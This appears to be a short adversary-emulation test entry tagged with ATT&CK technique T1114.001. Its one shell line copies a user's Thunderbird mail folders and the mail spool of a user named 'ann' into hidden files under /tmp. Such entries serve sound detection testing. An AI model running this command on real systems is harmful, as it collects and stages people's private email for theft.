# title: A user's mail is copied
# technique: T1114.001
# as: user

cp -r ~/.thunderbird/*/ImapMail /tmp/.m; cat /var/mail/ann >>/tmp/.m2
